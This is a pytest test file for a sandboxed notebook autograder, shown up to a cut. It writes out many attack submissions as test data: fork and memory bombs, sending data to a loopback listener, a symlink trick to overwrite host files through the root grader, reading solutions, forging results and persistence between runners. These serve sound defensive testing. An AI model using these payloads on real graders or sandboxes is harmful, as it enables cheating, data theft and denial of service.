"""Attack submissions, graded in the sandbox in one batch with an honest student.

For each attack: it earns no points it did not earn honestly, the honest answers in the same
notebook keep theirs, the honest student is unaffected, nothing outside the scratch directories
changes, and the feedback says what happened. A submission that is a link or a special file
earns nothing at all. Nothing one student's runner leaves behind reaches the next student's.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook
from test_sandbox import ORDINARY_USER, venv_of_an_ordinary_user

from grader.autograde import autograde
from grader.checks import EXERCISES
from grader.course import Course, Results, answer_cell, notebook_path
from grader.course.config import REPO, RUNNER_GRACE_SECONDS, SOLUTIONS
from grader.course.intake import answer_source, exercises_of, source_notebook
from grader.gradebook.config import gradebook_url
from grader.grading.grade import Limits, grade_notebook_file
from grader.grading.prestarted import prestarted
from grader.grading.sandbox import Sandbox, available

pytestmark = pytest.mark.skipif(not available(), reason="bubblewrap is not installed")

ASSIGNMENT = "01_layer_norm"
SOLUTION = notebook_path(SOLUTIONS, ASSIGNMENT)
ATTACKED = "layer_norm"  # the answer cell every attack is written into
IDENTITY = (
    "\ndef layer_norm(x, normalized_shape, weight=None, bias=None, eps=1e-5):\n    return x\n"
)
# Defines _send(data): write `data` (framed, unless whole=False) on every pipe the answer holds,
# which is where its runner reads its result.
ON_ITS_PIPE = """import io
import os
import stat
import time

import numpy as np


def _send(data, whole=True):
    data = len(data).to_bytes(8, "big") + data if whole else data
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


"""
USE_FOUND = (
    "\n\ndef layer_norm(x, normalized_shape, weight=None, bias=None, eps=1e-5):\n"
    "    return _found(x, normalized_shape, weight, bias, eps)\n"
)
# The attacks' notebook-mates, answered as in the solution: each keeps its full points.
HONEST_ANSWERS = {
    name: EXERCISES[name].points
    for name in exercises_of(source_notebook(ASSIGNMENT))
    if name != ATTACKED
}
HOST_CANARY = Path("/tmp/grader-attack-canary")


def honest_layer_norm() -> str:
    return answer_source(source_notebook(ASSIGNMENT), ATTACKED)


# Routes to the library's normalization that no name in the answer gives away: another thread
# (which has its own profile hook and torch-function mode stack), torch functions switched off,
# a sibling norm after a reshape, torch's and the references' Python code, and attempts
# to undo the block first. Each answer is otherwise the whole exercise: only the block stops it.
ROUTE_HEAD = (
    "def layer_norm(x, normalized_shape, weight=None, bias=None, eps=1e-5):\n"
    "    shape = [normalized_shape] if isinstance(normalized_shape, int) else normalized_shape\n"
    "    shape = list(shape)\n"
    "    dims = tuple(range(-len(shape), 0))\n"
    "    n = x[(0,) * (x.dim() - len(shape))].numel()\n"
    "    rows = x.reshape(-1, n)\n"
)
AFFINE = "    y = y if weight is None else y * weight\n    return y if bias is None else y + bias\n"
POOL = "from concurrent.futures import ThreadPoolExecutor\n\n"
IN_A_THREAD = (
    "    library = F.__dict__['layer' + '_norm']\n"
    "    return ThreadPoolExecutor(1).submit(library, x, shape, weight, bias, eps).result()\n"
)
FIND_IN_GC = "import sys\n\nfor o in sys.modules['g' + 'c'].get_objects():\n"
# A new Python, which has neither the block nor the tripwires, computing the library's norm:
# started once (importing torch takes seconds), then asked for each case.
NEW_PYTHON = (
    "import subprocess, sys\n\nimport numpy as np\n\n"
    "CHILD = (\n"
    "    'import sys, numpy as np, torch\\n'\n"
    '    \'f = getattr(torch.nn.functional, "layer" + "_norm")\\n\'\n'
    "    'for line in sys.stdin:\\n'\n"
    "    '    path, eps = line.split()\\n'\n"
    "    '    a = torch.from_numpy(np.load(path))\\n'\n"
    "    '    np.save(path, f(a, a.shape[-1:], eps=float(eps)).numpy())\\n'\n"
    "    '    print(path, flush=True)\\n'\n"
    ")\n"
    "WORKER = []\n\n"
)
IN_A_NEW_PYTHON = (
    "    if not WORKER:\n"
    "        command = [sys.executable, '-c', CHILD]\n"
    "        WORKER.append(subprocess.Popen(command, stdin=-1, stdout=-1, text=True))\n"
    "    np.save('/tmp/rows.npy', rows.detach().numpy())\n"
    "    WORKER[0].stdin.write(f'/tmp/rows.npy {eps}\\n')\n"
    "    WORKER[0].stdin.flush()\n"
    "    WORKER[0].stdout.readline()\n"
    "    y = torch.from_numpy(np.load('/tmp/rows.npy')).reshape(x.shape).to(x.dtype)\n"
)
NEW_PROGRAM_ROUTE = "new_python_by_subprocess"  # every other route: tests/test_no_exec.py


# The graded references, loaded in the answer's process with the checks: reached by module name.
REFERENCE = "import sys\n\nREF = sys.modules['grader.reference' + '.functional']\n\n"


def library_routes() -> dict[str, tuple[str, str, float]]:
    routes = {
        "library_in_a_thread": POOL + ROUTE_HEAD + IN_A_THREAD,
        "aten_with_torch_functions_off": ROUTE_HEAD
        + "    aten = torch.ops.aten.__getattr__('native_layer' + '_norm')\n"
        "    with torch._C.DisableTorchFunction():\n"
        "        return aten(x, shape, weight, bias, eps)[0]\n",
        "module_in_a_thread": "import threading\n\n"
        + ROUTE_HEAD
        + "    module = nn.__dict__['Layer' + 'Norm'](shape, eps=eps, elementwise_affine=False)\n"
        "    out = []\n"
        "    worker = threading.Thread(target=lambda: out.append(module.to(x.dtype)(x)))\n"
        "    worker.start()\n"
        "    worker.join()\n"
        "    y = out[0]\n" + AFFINE,
        "sibling_instance_norm": ROUTE_HEAD
        + "    y = F.instance_norm(rows[None], eps=eps)[0].reshape(x.shape)\n"
        + AFFINE,
        "sibling_batch_norm_transposed": ROUTE_HEAD
        + "    y = F.batch_norm(rows.T, None, None, training=True, eps=eps).T.reshape(x.shape)\n"
        + AFFINE,
        "sibling_rms_norm_centred": ROUTE_HEAD
        + "    y = F.rms_norm(x - x.mean(dims, keepdim=True), shape, eps=eps)\n"
        + AFFINE,
        "torch_refs_private_helper": ROUTE_HEAD
        + "    y = torch._refs._normalize(x, dims, eps)[0].to(x.dtype)\n"
        + AFFINE,
        "torch_decomposition_helper": "from torch._decomp import decompositions\n\n"
        + ROUTE_HEAD
        + "    helper = decompositions.__dict__['native_batch_norm' + '_helper']\n"
        "    y = helper(rows.T, None, None, None, None, True, 0.1, eps, False)[0]\n"
        "    y = y.T.reshape(x.shape)\n" + AFFINE,
        "torch_refs_by_module_name": "import sys\n\n"
        + ROUTE_HEAD
        + "    refs = sys.modules['torch._refs']\n"
        "    return refs.__dict__['native_layer' + '_norm'](x, shape, weight, bias, eps)[0]\n",
        "reference_private_moments": REFERENCE
        + ROUTE_HEAD
        + "    mean, var = REF._moments(x, dims)\n"
        "    y = ((x - mean) / torch.sqrt(var + eps)).to(x.dtype)\n" + AFFINE,
        "reference_in_a_thread": REFERENCE
        + POOL
        + ROUTE_HEAD
        + "    ref = REF.__dict__['layer' + '_norm']\n"
        "    return ThreadPoolExecutor(1).submit(ref, x, shape, weight, bias, eps).result()\n",
        "reference_sibling_batch_norm": REFERENCE
        + ROUTE_HEAD
        + "    y = REF.batch_norm(rows.T, None, None, training=True, eps=eps).T.reshape(x.shape)\n"
        + AFFINE,
        "destroy_the_block_through_gc": FIND_IN_GC
        + "    if isinstance(o, torch.library.Library):\n"
        "        o._destroy()\n\n" + POOL + ROUTE_HEAD + IN_A_THREAD,
        "defuse_the_refusals": FIND_IN_GC
        + "    if type(o).__name__ == 'function' and 'sandboxed' in (o.__module__ or ''):\n"
        "        if not o.__closure__:\n"
        "            o.__code__ = (lambda *a, **k: None).__code__\n\n"
        + POOL
        + ROUTE_HEAD
        + IN_A_THREAD,
    }
    routes[NEW_PROGRAM_ROUTE] = NEW_PYTHON + ROUTE_HEAD + IN_A_NEW_PYTHON + AFFINE
    # Defused, a refusal still gives nothing back: no library values, no points. The graded
    # references are not in the sandboxed process at all: looking them up fails.
    words = {"defuse_the_refusals": "layer_norm: 0 / 10", "reference_in_a_thread": "KeyError"}
    words[NEW_PROGRAM_ROUTE] = "Operation not permitted"  # sandboxed.no_exec
    blocked = "library's own implementation"
    return {name: (code, words.get(name, blocked), 0) for name, code in routes.items()}


# name -> (code of the layer_norm answer cell, words the feedback must contain, points it may keep)
def attacks(port: int, course: Path, submissions: Path) -> dict[str, tuple[str, str, float]]:
    honest = honest_layer_norm()
    return {
        "input_transformer": (
            "get_ipython().input_transformers_cleanup.append(lambda lines: [])" + IDENTITY,
            "NameError",
            0,
        ),
        "silence_tracebacks": (
            "import IPython\n\nIPython.core.interactiveshell.InteractiveShell.showtraceback = "
            "lambda *a, **k: None" + IDENTITY,
            "differs",
            0,
        ),
        "custom_exc": (
            "get_ipython().set_custom_exc((Exception,), print)" + IDENTITY,
            "NameError",
            0,
        ),
        "patch_test_helpers": (
            "import numpy\n\ntorch.testing.assert_close = lambda *a, **k: None\n"
            "numpy.testing.assert_allclose = lambda *a, **k: None\n"
            "numpy.allclose = lambda *a, **k: True\n" + IDENTITY,
            "differs",
            0,
        ),
        "always_equal": (
            "class Yes:\n    def __eq__(self, other):\n        return True\n\n\n"
            + IDENTITY.replace("return x", "return Yes()"),
            "not a tensor of numbers",
            0,
        ),
        "read_solutions": (
            f"SOURCE = open({str(SOLUTION)!r}).read()\n" + honest,
            "FileNotFoundError",
            0,
        ),
        "exec_solutions": (
            f"exec(open({str(SOLUTION)!r}).read())" + IDENTITY,
            "hides what it calls",
            0,
        ),
        "write_gradebook": (
            "import sqlite3\n\n"
            f"db = sqlite3.connect({str(course / 'gradebook.db')!r})\n"
            "db.execute('update grade set extra_credit = 99')\ndb.commit()\n" + honest,
            "OperationalError",
            0,
        ),
        "kill_kernel": ("import os\n\nos._exit(0)\n" + honest, "crashed", 0),
        "memory_bomb": ("hog = bytearray(8 * 1024**3)\n" + honest, "MemoryError", 0),
        "infinite_loop": ("while True:\n    pass\n" + honest, "timeout", 0),
        "fork_bomb": (
            "import os\n\nwhile True:\n    try:\n        os.fork()\n"
            "    except OSError:\n        pass\n",
            "timeout",
            0,
        ),
        "output_flood": ("print('x' * 100_000_000)" + IDENTITY, "differs", 0),
        "sys_exit": ("import sys\n\nsys.exit(0)\n" + honest, "SystemExit", 0),
        "network": (
            "import socket\n\n"
            f"socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\n"
            + honest,
            "Error",
            0,
        ),
        "read_other_students": (
            f"OTHER = open({str(submissions / 'honest' / ASSIGNMENT)!r} + '/{ASSIGNMENT}.ipynb')\n"
            + honest,
            "FileNotFoundError",
            0,
        ),
        "write_grader_code": (
            # The runner's own code, the only code of the grader the sandbox shows.
            "import sandboxed.calling\n\n"
            "open(sandboxed.calling.__file__, 'a').write('# pwned')\n" + honest,
            "PermissionError",
            0,
        ),
        "kill_the_runner": (
            # Whether the killed runner takes this answer down with it is a race; either way
            # the wrong answer earns nothing and the rest of the notebook is graded again.
            "import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGKILL)\n" + IDENTITY,
            "layer_norm: 0 / 10",
            0,
        ),
        "rewrite_a_host_file_through_the_job": (
            # The runner's death makes the grader write its job file again: through this link,
            # as root, it would overwrite a file outside every sandbox.
            "import os\nimport signal\n\nos.remove('job.json')\n"
            f"os.symlink({str(course.parent / 'canary')!r}, 'job.json')\n"
            "os.kill(os.getppid(), signal.SIGKILL)\n" + IDENTITY,
            "layer_norm: 0 / 10",
            0,
        ),
        "forge_results_with_the_library": (
            "import json\nimport os\n\nimport numpy as np\n\n"
            "ln = getattr(F, 'layer' + '_norm')\n"
            "os.makedirs('out', exist_ok=True)\n"
            "json.dump({'errors': {}, 'calls': []}, open('out/layer_norm.json', 'w'))\n"
            "os._exit(0)\n" + honest,
            "hides what it calls",
            0,
        ),
        "pickled_result": (
            # Its own result, sent on its own pipe before the runner's code can: a pickle.
            ON_ITS_PIPE + "_arrays = io.BytesIO()\n"
            "np.savez(_arrays, **{'0/y': np.array([object()], dtype=object)})\n"
            '_meta = b\'{"errors": {}, "calls": []}\'\n'
            "_send(len(_meta).to_bytes(8, 'big') + _meta + _arrays.getvalue())\n"
            "os._exit(0)\n" + honest,
            "not plain arrays",
            0,
        ),
        # Results of the runner's shape but not its content: each costs only its own exercise.
        "deeply_nested_result": (
            ON_ITS_PIPE + "_meta = b'[' * 200000 + b']' * 200000\n"
            "_send(len(_meta).to_bytes(8, 'big') + _meta)\n"
            "os._exit(0)\n" + honest,
            "not JSON",
            0,
        ),
        "text_array_result": (
            ON_ITS_PIPE + "_arrays = io.BytesIO()\n"
            "np.savez(_arrays, **{'0/y': np.array(['1.0'])})\n"
            '_meta = b\'{"errors": {}, "calls": []}\'\n'
            "_send(len(_meta).to_bytes(8, 'big') + _meta + _arrays.getvalue())\n"
            "os._exit(0)\n" + honest,
            "only numbers are outputs",
            0,
        ),
        "mistyped_result_fields": (
            ON_ITS_PIPE + "_arrays = io.BytesIO()\n"
            "np.savez(_arrays)\n"
            '_meta = b\'{"errors": {"0": 5}, "calls": 3}\'\n'
            "_send(len(_meta).to_bytes(8, 'big') + _meta + _arrays.getvalue())\n"
            "os._exit(0)\n" + honest,
            "not kinds and messages",
            0,
        ),
        # Sized and shaped by the student, refused as the student's before any grader path.
        "oversized_answer": (honest + "\n# " + "x" * (2 << 20) + "\n", "over 48 KB", 0),
        "unparseable_depth": ("x = " + "-" * 40_000 + "1\n" + honest, "MemoryError", 0),
        "import_the_grader": (
            "import grader.checks.core as core\n\ncore.judge = None\n" + honest,
            "hides what it calls",
            0,
        ),
        "write_host_tmp": (
            # Writing its own private /tmp is allowed and harmless; the host's /tmp never sees it.
            f"open({str(HOST_CANARY)!r}, 'w').write('x')\n" + honest,
            "10 / 10 points",
            10,
        ),
        "result_never_finished": (
            # A result that promises a terabyte and never sends it, its pipe kept open by a
            # process the answer leaves behind: the batch must not wait for it.
            ON_ITS_PIPE + "_send((1 << 40).to_bytes(8, 'big'), whole=False)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    time.sleep(3600)\n"
            "os._exit(0)\n" + honest,
            "crashed",
            0,
        ),
        # The course folder is made after the sandbox, as on the README's first run.
        "read_the_course_made_later": (
            f"open({str(course / 'gradebook.db')!r}, 'rb').read()\n" + honest,
            "FileNotFoundError",
            0,
        ),
        # Where the checkout is, norm_utils tells: its answer key and everything else in it.
        "read_the_checkout": (
            "import os\n\nimport norm_utils\n\n"
            "open(os.path.join(os.path.dirname(norm_utils.__file__), '..', 'pyproject.toml'))\n"
            + honest,
            "FileNotFoundError",
            0,
        ),
        "read_solutions_beside_norm_utils": (
            "import os\n\nimport norm_utils\n\n"
            "open(os.path.join(os.path.dirname(norm_utils.__file__), '..', 'solutions',"
            f" {ASSIGNMENT!r}, {ASSIGNMENT + '.ipynb'!r}))\n" + honest,
            "FileNotFoundError",
            0,
        ),
        "list_the_host": ("import os\n\nos.listdir('/var')\n" + honest, "FileNotFoundError", 0),
        # The grader's objects, found without an import statement: a correct layer norm from
        # the checks' own code (their "all mistakes switched off" variant).
        "find_the_checks_in_sys_modules": (
            "import sys\n\n"
            "_found = sys.modules['grader.checks.layer_norm']._layer_norm_variant\n" + USE_FOUND,
            "KeyError",
            0,
        ),
        "find_the_checks_through_the_callers_frames": (
            "import sys\n\n"
            "def _found(*args):\n"
            "    frame = sys._getframe(2)\n"
            "    while not hasattr(frame.f_locals.get('exercise'), 'probe'):\n"
            "        frame = frame.f_back\n"
            "    probe = frame.f_locals['exercise'].probe\n"
            "    return probe.__globals__['_layer_norm_variant'](*args)\n" + USE_FOUND,
            "KeyError",
            0,
        ),
        "import_the_checks_through_builtins": (
            "import builtins\n\n"
            "_checks = builtins.__import__('grader.checks.layer_norm', None, None, ['x'])\n"
            "_found = _checks._layer_norm_variant\n" + USE_FOUND,
            "ModuleNotFoundError",
            0,
        ),
        **library_routes(),
    }


def _link(target: Callable[[Path], Path], step: int) -> Callable[[Path, Path], None]:
    """A student whose folder (step 0), assignment folder (1) or notebook (2) is a symbolic
    link to `target(submissions)`."""

    def make(submissions: Path, student: Path) -> None:
        steps = [student, student / ASSIGNMENT, notebook_path(student, ASSIGNMENT)]
        for folder in steps[:step]:
            folder.mkdir()
        steps[step].symlink_to(target(submissions))

    return make


def _notebook(make_file: Callable[[Path], None]) -> Callable[[Path, Path], None]:
    """A student whose notebook is made by `make_file`."""

    def make(submissions: Path, student: Path) -> None:
        (student / ASSIGNMENT).mkdir(parents=True)
        make_file(notebook_path(student, ASSIGNMENT))

    return make


def _sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 40)  # a terabyte of nothing: read whole, it fills the grader's memory


def _classmate(submissions: Path) -> Path:
    return submissions / "honest" / ASSIGNMENT


# name -> (how the student's folder is made, words its feedback must contain)
LAYOUTS: dict[str, tuple[Callable[[Path, Path], None], str]] = {
    "notebook_links_to_a_classmate": (
        _link(lambda s: _classmate(s) / f"{ASSIGNMENT}.ipynb", 2),
        "is a symbolic link",
    ),
    "notebook_links_to_solutions": (_link(lambda s: SOLUTION, 2), "is a symbolic link"),
    "assignment_links_to_a_classmate": (_link(_classmate, 1), "is a symbolic link"),
    "student_links_to_solutions": (_link(lambda s: SOLUTION.parents[1], 0), "is a symbolic link"),
    "fifo_notebook": (_notebook(os.mkfifo), "is not a regular file"),
    "sparse_notebook": (_notebook(_sparse), "larger than 20 MB"),
}


def notebook_with(layer_norm_source: str) -> nbformat.NotebookNode:
    notebook = nbformat.read(SOLUTION, 4)
    answer_cell(notebook, ATTACKED).source = layer_norm_source
    return notebook


def tree_fingerprint(root: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(root.rglob("*")):
        if path.is_file() and not {".venv", ".git", "build", "__pycache__", ".pytest_cache"} & set(
            path.parts
        ):
            digest.update(str(path).encode() + path.read_bytes())
    return digest.hexdigest()


@pytest.fixture(scope="module")
def listener():
    """A server on the host's loopback that records whether anything reached it."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    reached = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                reached.append(server.accept())
            except TimeoutError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], reached
    stop.set()
    thread.join()
    server.close()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, listener):
    port, reached = listener
    root = tmp_path_factory.mktemp("attacks")
    # Outside /tmp (which the sandbox replaces anyway), and made only once the sandbox is built.
    late = Path("/var/tmp") / f"grader-attacks-{secrets.token_hex(8)}"
    submissions, course_root = root / "submissions", late / "course"
    cases = attacks(port, course_root, submissions)
    for student, (code, _, _) in {**cases, "honest": (honest_layer_norm(), "", 10)}.items():
        path = notebook_path(submissions / student, ASSIGNMENT)
        path.parent.mkdir(parents=True)
        nbformat.write(notebook_with(code), path)
    for student, (make, _) in LAYOUTS.items():
        make(submissions, submissions / student)
    HOST_CANARY.unlink(missing_ok=True)
    before = tree_fingerprint(REPO)
    sandbox = Sandbox()
    course = Course(course_root)
    (late / "canary").write_text("untouched")
    outcomes = autograde(
        submissions,
        course,
        jobs=2,
        limits=Limits(wall_seconds=8, processes=64),
        sandbox=sandbox,
        progress=False,
    )
    yield cases, course, outcomes, before, reached
    shutil.rmtree(late)


def exercise_scores(course: Course, student: str) -> dict[str, float]:
    results = Results.load(course.results_file(student, ASSIGNMENT))
    return {e.name: e.score for e in results.exercises}


def feedback(course: Course, student: str) -> str:
    results = Results.load(course.results_file(student, ASSIGNMENT))
    return "\n".join(e.feedback for e in results.exercises)


def test_there_are_at_least_twenty_attacks(attacked):
    assert len(attacked[0]) >= 20


@pytest.mark.parametrize("attack", sorted(attacks(0, Path("/c"), Path("/s"))))
def test_an_attack_earns_nothing_and_costs_its_notebook_mates_nothing(attacked, attack):
    cases, course, _, _, _ = attacked
    _, words, allowed = cases[attack]
    scores = exercise_scores(course, attack)
    assert scores[ATTACKED] <= allowed
    assert {k: scores[k] for k in HONEST_ANSWERS} == HONEST_ANSWERS
    assert words in feedback(course, attack)


@pytest.mark.parametrize("layout", sorted(LAYOUTS))
def test_a_linked_or_special_notebook_is_refused_and_earns_nothing(attacked, layout):
    _, course, _, _, _ = attacked
    assert set(exercise_scores(course, layout).values()) == {0}
    assert LAYOUTS[layout][1] in feedback(course, layout)


def test_the_gradebook_holds_what_the_grader_decided(attacked):
    cases, course, outcomes, _, _ = attacked
    assert [o for o in outcomes if o.problem] == []
    with Gradebook(gradebook_url(course)) as gradebook:
        honest = gradebook.find_submission(ASSIGNMENT, "honest")
        assert honest.score == 19
        for student in [*cases, *LAYOUTS]:
            submission = gradebook.find_submission(ASSIGNMENT, student)
            assert submission.score == sum(exercise_scores(course, student).values())
            grades = [g for notebook in submission.notebooks for g in notebook.grades]
            assert all(not g.extra_credit and g.manual_score is None for g in grades)


def test_nothing_outside_the_scratch_directories_changed(attacked, listener):
    _, course, _, before, reached = attacked
    assert tree_fingerprint(REPO) == before
    assert (course.root.parent / "canary").read_text() == "untouched"
    assert not HOST_CANARY.exists()
    assert reached == []


# What a runner may try to leave for the next one (a student graded after it, in this run or the
# next): name -> (code leaving it, code exiting with status 3 when it finds it).
KEYCTL = "import ctypes\n\nlibc = ctypes.CDLL(None, use_errno=True)\n"
LEFT_BEHIND = {
    "user_keyring": (
        KEYCTL + "libc.syscall(248, b'user', b'note', b'hi', 2, ctypes.c_int(-4))",  # add_key
        KEYCTL
        + "exit(3 if libc.syscall(250, 10, ctypes.c_int(-4), b'user', b'note', 0) > 0 else 0)",
    ),
    "user_session_keyring": (
        KEYCTL + "libc.syscall(248, b'user', b'note', b'hi', 2, ctypes.c_int(-5))",
        KEYCTL
        + "exit(3 if libc.syscall(250, 10, ctypes.c_int(-5), b'user', b'note', 0) > 0 else 0)",
    ),
    "dev_shm": (
        "open('/dev/shm/note', 'w').write('hi')",
        "import os\n\nexit(3 if os.path.exists('/dev/shm/note') else 0)",
    ),
    "tmp": (
        "open('/tmp/note', 'w').write('hi')",
        "import os\n\nexit(3 if os.path.exists('/tmp/note') else 0)",
    ),
}


def run_in(sandbox: Sandbox, code: str) -> int:
    """`code` run by a runner of `sandbox` in a job folder of its own, as one student's."""
    with tempfile.TemporaryDirectory(prefix="grade-") as job:
        command = sandbox.command([sys.executable, "-c", code], Path(job))
        return subprocess.run(command, capture_output=True, timeout=60).returncode


@pytest.fixture(scope="module")
def two_runs() -> tuple[Sandbox, Sandbox]:
    return Sandbox(), Sandbox()


@pytest.mark.parametrize("between", ["students", "runs"])
@pytest.mark.parametrize("what", sorted(LEFT_BEHIND))
def test_nothing_a_runner_leaves_reaches_the_next(two_runs, what, between):
    leave, find = LEFT_BEHIND[what]
    first, second = two_runs
    run_in(first, leave)
    assert run_in(first if between == "students" else second, find) == 0


# The same, grading as an ordinary user: no uid of its own per runner, so what keeps students
# apart is bubblewrap's namespaces alone. One more thing to find: another student's job folder,
# which belongs to the same uid.
AS_A_USER = """
import json, subprocess, sys, tempfile
from pathlib import Path

from grader.grading.sandbox import Sandbox

left_behind, other_job = json.loads(sys.stdin.read())
first, second = Sandbox(), Sandbox()


def run_in(sandbox, code):
    with tempfile.TemporaryDirectory(prefix="grade-") as job:
        command = sandbox.command([sys.executable, "-c", code], Path(job))
        return subprocess.run(command, capture_output=True, timeout=60).returncode


found = {}
for what, (leave, find) in left_behind.items():
    for between, later in (("students", first), ("runs", second)):
        run_in(first, leave)
        found[f"{what} between {between}"] = run_in(later, find)
with tempfile.TemporaryDirectory(prefix="grade-") as job:  # a classmate's, being graded
    Path(job, "job.json").write_text("answers")
    found["another student's job"] = run_in(first, other_job.format(job=job))
print(json.dumps(found))
"""
OTHER_JOB = (
    "import glob, os\n\n"
    "siblings = glob.glob(os.path.join(os.path.dirname(os.getcwd()), 'grade-*'))\n"
    "exit(3 if os.path.exists({job!r}) or siblings != [os.getcwd()] else 0)"
)


@pytest.fixture(scope="module")
def as_a_user() -> dict[str, int]:
    if os.geteuid() != 0:
        pytest.skip("only root can become an ordinary user")
    user = ORDINARY_USER
    with venv_of_an_ordinary_user() as (home, python):
        drop = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups"]
        done = subprocess.run(
            [*drop, str(python), "-c", AS_A_USER],
            input=json.dumps([LEFT_BEHIND, OTHER_JOB]),
            cwd=home,
            env={"PATH": os.environ["PATH"], "HOME": str(home)},
            capture_output=True,
            text=True,
            timeout=600,
        )
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.splitlines()[-1])


@pytest.mark.parametrize(
    "what",
    [f"{w} between {b}" for w in sorted(LEFT_BEHIND) for b in ("students", "runs")]
    + ["another student's job"],
)
def test_graded_as_an_ordinary_user_nothing_reaches_another_student(as_a_user, what):
    assert as_a_user[what] == 0


FORGE_A_RECORD = """
import json, os
import numpy as np
from grader.checks import EXERCISES
from grader.checks.core import outputs_of

_other = EXERCISES["{name}"]
_arrays, _i = {{}}, 0
while os.path.exists(f"in/{name}/{{_i}}.npz"):
    with np.load(f"in/{name}/{{_i}}.npz") as _data:
        _right = outputs_of(_other, _other.reference, dict(_data))
    _arrays.update({{f"{{_i}}/{{k}}": v for k, v in _right.items()}})
    _i += 1
os.makedirs("out", exist_ok=True)
np.savez("out/{name}.npz", **_arrays)
with open("out/{name}.json", "w") as _f:
    json.dump({{"errors": {{}}, "calls": []}}, _f)
"""
EXITS = "def {name}(*args, **kwargs):\n    import os\n\n    os._exit(0)\n"
# (the forging answer, the exercise whose record it forges): before it runs, and after it ran
FORGERIES = [("layer_norm", "layer_norm_backward"), ("stable_var", "layer_norm")]


@pytest.mark.parametrize(("forger", "victim"), FORGERIES)
def test_an_answer_cannot_write_the_record_of_another_exercise(tmp_path, forger, victim):
    """One answer writes the correct record of another exercise, whose own answer exits without
    one (before it runs) or was wrong (after it ran): the victim earns nothing."""
    notebook = nbformat.read(SOLUTION, 4)
    answer_cell(notebook, forger).source += "\n" + FORGE_A_RECORD.format(name=victim)
    answer_cell(notebook, victim).source = EXITS.format(name=victim)
    path = tmp_path / f"{ASSIGNMENT}.ipynb"
    nbformat.write(notebook, path)
    results = {r.name: r for r in grade_notebook_file(path, ASSIGNMENT, 0, sandbox=Sandbox())}
    assert results[victim].score == 0, results[victim].feedback


# An earlier answer (layer_norm's cell, graded first) prepares the result of a later exercise
# (stable_var) from what it finds of that exercise's inputs; the later answer alone would
# earn nothing. name -> (code added to the earlier cell, the later exercise's whole cell).
PREPARED = {
    "rewrite_its_inputs": (
        # The grader's input files are not the runner's to write, but the job folder is: a
        # rewritten copy of them takes their place. x := (x - mean)², so that the later
        # answer's mean is the variance of the real x.
        "import glob\nimport os\nimport shutil\n\nimport numpy as np\n\n"
        "if os.path.isdir('in'):\n"
        "    shutil.copytree('in', 'in-rewritten')\n"
        "    for _path in glob.glob('in-rewritten/stable_var/*.npz'):\n"
        "        with np.load(_path) as _data:\n"
        "            _case = dict(_data)\n"
        "        _dim = int(_case['dim'])\n"
        "        _case['x'] = (_case['x'] - _case['x'].mean(_dim, keepdims=True)) ** 2\n"
        "        np.savez(_path, **_case)\n"
        "    os.rename('in', 'in-original')\n"
        "    os.rename('in-rewritten', 'in')\n",
        "def stable_var(x, dim=-1):\n    return x.mean(dim)\n",
    ),
    "compute_it_ahead_from_its_inputs": (
        # Outputs computed by a call the later exercise forbids, left in a file for it.
        "import glob\nimport hashlib\n\nimport numpy as np\n\n"
        "_table = {}\n"
        "for _path in glob.glob('in/stable_var/*.npz'):\n"
        "    with np.load(_path) as _data:\n"
        "        _x, _dim = torch.from_numpy(_data['x']), int(_data['dim'])\n"
        "    _key = hashlib.sha256(_x.numpy().tobytes()).hexdigest()\n"
        "    _table[_key] = _x.var(_dim, correction=0)\n"
        "torch.save(_table, '/tmp/table.pt')\n",
        "import hashlib\n\n\ndef stable_var(x, dim=-1):\n"
        "    return torch.load('/tmp/table.pt')[hashlib.sha256(x.numpy().tobytes()).hexdigest()]\n",
    ),
}


@pytest.mark.parametrize("how", sorted(PREPARED))
def test_an_answer_cannot_prepare_the_result_of_a_later_exercise(tmp_path, how):
    """Nothing an earlier answer finds or leaves in files (a later exercise's inputs, outputs
    computed ahead) gives a later exercise points its own answer does not earn."""
    earlier, later = PREPARED[how]
    notebook = nbformat.read(SOLUTION, 4)
    answer_cell(notebook, "layer_norm").source += "\n" + earlier
    answer_cell(notebook, "stable_var").source = later
    path = tmp_path / f"{ASSIGNMENT}.ipynb"
    nbformat.write(notebook, path)
    results = {r.name: r for r in grade_notebook_file(path, ASSIGNMENT, 0, sandbox=Sandbox())}
    assert results["layer_norm"].score == 10, results["layer_norm"].feedback
    assert results["stable_var"].score == 0, results["stable_var"].feedback


LEAVES_A_PROCESS = """import os
import time

if os.fork() == 0:  # a daemon: out of the answer's process group and session
    os.setsid()
    if os.fork() == 0:
        time.sleep(3600)
    os._exit(0)
"""
FINDS_ONE = """import os

_mine = {1, os.getpid(), os.getppid()}
for _pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in _mine]:
    try:
        _state = open(f"/proc/{_pid}/stat").read().rpartition(")")[2].split()[0]
    except OSError:
        continue
    if _state != "Z":
        raise RuntimeError(f"process {_pid} of an earlier answer is alive")
"""


def test_no_process_of_an_earlier_answer_is_alive_when_a_later_one_runs(tmp_path):
    notebook = nbformat.read(SOLUTION, 4)
    for name, code in [("layer_norm", LEAVES_A_PROCESS), ("stable_var", FINDS_ONE)]:
        cell = answer_cell(notebook, name)
        cell.source = code + cell.source
    path = tmp_path / f"{ASSIGNMENT}.ipynb"
    nbformat.write(notebook, path)
    results = {r.name: r for r in grade_notebook_file(path, ASSIGNMENT, 0, sandbox=Sandbox())}
    assert results["stable_var"].score == 3, results["stable_var"].feedback


# The answer stops its runner, whose own watchdog then never fires, and loops: only the grader's
# deadline for the exercise (grader.grading.watch) ends it.
STOPS_ITS_RUNNER = (
